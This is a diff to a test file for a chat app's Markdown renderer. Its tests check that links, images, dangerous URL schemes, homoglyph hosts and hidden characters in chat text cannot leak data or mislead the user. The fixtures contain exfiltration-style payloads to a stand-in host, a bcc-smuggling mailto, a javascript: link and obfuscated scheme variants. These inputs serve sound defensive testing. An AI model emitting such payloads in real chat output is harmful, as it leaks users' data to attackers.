@@ -4,9 +4,17 @@ import * as fc from 'fast-check'
 import { createElement } from 'react'
 import { renderToStaticMarkup } from 'react-dom/server'
 import { describe, expect, test } from 'vitest'
+import { LinkSources } from '@/components/chat/markdown/link-sources'
 import { Markdown, StreamedMarkdown } from '@/components/chat/markdown/Markdown'
 
-const render = (text: string): string => renderToStaticMarkup(createElement(Markdown, { text }))
+const render = (text: string, typed: readonly string[] = []): string =>
+  renderToStaticMarkup(
+    createElement(
+      LinkSources,
+      { value: { typed, contents: [], endorsed: [] } },
+      createElement(Markdown, { text }),
+    ),
+  )
 
 describe('Markdown', () => {
   test('raw HTML is shown as text', () => {
@@ -25,8 +33,10 @@ describe('Markdown', () => {
     expect(html).toContain('image at tracker.example, not loaded')
   })
 
-  test('a link opens apart, tells nothing, and shows where it goes', () => {
-    const html = render('[my bank](https://bank.example.evil.example/login)')
+  test('a link that the person typed opens apart, tells nothing, and shows where it goes', () => {
+    const html = render('[my bank](https://bank.example.evil.example/login)', [
+      'look at https://bank.example.evil.example/login',
+    ])
     expect(html).toContain('href="https://bank.example.evil.example/login"')
     expect(html).toContain('target="_blank"')
     expect(html).toContain('rel="noopener noreferrer"')
@@ -45,21 +55,80 @@ describe('Markdown', () => {
     '[x](/relative)',
     '[x](https://you@evil.example)',
     '<javascript:alert(1)>',
-  ])('%s is no link', (text) => {
-    expect(render(text)).not.toContain('<a ')
+  ])('%s is no link (RESULT-04)', (text) => {
+    expect(render(text)).not.toMatch(/<(a|button) /)
+  })
+
+  test('a link that the person did not type has no address for the browser: only a question opens it (RESULT-06)', () => {
+    const html = render('[https://google.com](https://evil.example/?d=secret)', ['google.com'])
+    expect(html).not.toContain('href')
+    expect(html).toMatch(/<button[^>]*>https:\/\/google\.com<\/button>/)
+    expect(html).toContain('(evil.example)')
   })
 
   test('a mail link carries no message', () => {
-    const html = render('[write](mailto:dora@gmail.com?bcc=eve@evil.example&body=hi)')
+    const html = render('[write](mailto:dora@gmail.com?bcc=eve@evil.example&body=hi)', [
+      'dora@gmail.com',
+    ])
     expect(html).toContain('href="mailto:dora@gmail.com"')
     expect(html).not.toContain('bcc')
   })
 
-  test('a host in another script is shown in its ASCII form', () => {
+  test('a host in another script is shown in its ASCII form (RESULT-06)', () => {
     expect(render('[bank](https://b\u0430nk.example)')).toContain('(xn--bnk-6cd.example)')
   })
 
-  test('hidden characters are shown as chips', () => {
+  test('a link to anything but a web page or a mail address is text, whatever its spelling (RESULT-04)', () => {
+    const scheme = fc.constantFrom(
+      'javascript:',
+      'file:///',
+      'http://127.0.0.1/',
+      'chrome-extension://khleimnhdlapkgffdddlcpncigoeohda/',
+      'data:text/html,',
+      'blob:',
+      'intent://',
+      'view-source:',
+    )
+    const noise = fc.array(fc.constantFrom('', '\t', '\n', '&Tab;', '&#10;', '%0a', '\u200b'), {
+      maxLength: 3,
+    })
+    fc.assert(
+      fc.property(scheme, noise, fc.nat(6), (prefix, noises, at) => {
+        const written = `${prefix.slice(0, at)}${noises.join('')}${prefix.slice(at)}x`
+        expect(render(`[x](${written})`, [written])).not.toMatch(/<(a|button) /)
+      }),
+    )
+  })
+
+  test('nothing loads at any point of a stream (RESULT-08)', () => {
+    const pieces = [
+      '![a](https://evil.example/?d=SECRET)',
+      '![b][r]',
+      '<img src=https://e.example>',
+    ]
+    const text = [
+      ...pieces,
+      '[c](https://evil.example/?d=SECRET)',
+      '[r]: https://evil.example/r',
+    ].join('\n\n')
+    for (let end = 0; end <= text.length; end += 1) {
+      const drawn = createElement(StreamedMarkdown, { text: text.slice(0, end) })
+      expect(renderToStaticMarkup(drawn)).not.toMatch(
+        /<(img|iframe|link|source)\b|<[^>]*\s(src|srcset|style)=/,
+      )
+    }
+  })
+
+  test('code, mathematics and diagrams are shown as written, with no preview (RESULT-09)', () => {
+    const html = render(
+      '```html\n<img src=x>\n```\n```mermaid\nclick A "https://e.example"\n```\n$\\href{https://e.example}{x}$',
+    )
+    expect(html).not.toMatch(/<(img|a|svg id)/)
+    expect(html).toContain('&lt;img src=x&gt;')
+    expect(html).toContain('click A')
+  })
+
+  test('hidden characters are shown as chips (RESULT-11)', () => {
     expect(render('pay\u200B ‮now')).toContain('1 hidden character')
     expect(render('hi\u{E0068}\u{E0069}')).toContain('hidden text: “hi”')
   })
